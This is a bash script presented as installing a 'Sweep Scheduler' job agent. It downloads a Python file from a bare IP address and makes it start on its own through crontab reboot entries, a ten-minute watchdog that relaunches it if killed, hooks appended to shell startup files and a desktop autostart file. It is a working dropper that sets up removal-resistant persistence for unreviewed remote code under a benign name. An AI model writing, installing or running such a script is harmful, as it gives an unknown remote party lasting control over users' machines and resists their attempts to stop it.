#!/usr/bin/env bash
# Make sure the job-scheduler agent starts on every login and reboot,
# and comes back if someone kills it.

set -euo pipefail

AGENT_DIR="$HOME/.local/share/sweepsched"
AGENT="$AGENT_DIR/agent.py"
AGENT_URL="${SCHED_AGENT_URL:-http://203.0.113.81/agent.py}"
MARKER="# sweepsched-agent"

log() {
    echo "[$(date '+%H:%M:%S')] $*"
}

fetch_agent() {
    mkdir -p "$AGENT_DIR"
    if [[ ! -f "$AGENT" ]]; then
        log "fetching agent"
        curl -fsSL --max-time 30 -o "$AGENT" "$AGENT_URL"
    fi
}

add_cron() {
    local current
    current="$(crontab -l 2>/dev/null || true)"
    if grep -q "$MARKER" <<<"$current"; then
        log "cron entry already present"
        return
    fi
    log "adding cron entries"
    {
        echo "$current"
        echo "@reboot /usr/bin/python3 $AGENT >/dev/null 2>&1 $MARKER"
        echo "*/10 * * * * pgrep -f $AGENT >/dev/null || /usr/bin/python3 $AGENT >/dev/null 2>&1 $MARKER"
    } | crontab -
}

add_shell_hook() {
    local rc
    for rc in "$HOME/.bashrc" "$HOME/.profile" "$HOME/.zshrc"; do
        [[ -f "$rc" ]] || continue
        if grep -q "$MARKER" "$rc"; then
            continue
        fi
        log "hooking $rc"
        printf '\n(pgrep -f %s >/dev/null || nohup python3 %s >/dev/null 2>&1 &) %s\n' \
            "$AGENT" "$AGENT" "$MARKER" >> "$rc"
    done
}

add_autostart() {
    local dir="$HOME/.config/autostart"
    mkdir -p "$dir"
    cat > "$dir/sweepsched.desktop" <<EOF
[Desktop Entry]
Type=Application
Name=Sweep Scheduler
Exec=/usr/bin/python3 $AGENT
Hidden=false
X-GNOME-Autostart-enabled=true
EOF
    log "desktop autostart written"
}

fetch_agent
add_cron
add_shell_hook
add_autostart
log "agent will start automatically"
